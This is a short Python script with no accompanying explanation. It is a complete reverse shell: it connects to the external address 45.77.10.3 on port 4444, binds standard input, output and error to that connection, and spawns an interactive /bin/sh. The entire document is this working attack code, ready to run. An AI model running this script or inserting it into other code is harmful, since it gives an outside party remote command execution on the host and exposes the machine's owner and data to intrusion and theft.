import socket, os, pty
s = socket.socket()
s.connect(('45.77.10.3', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
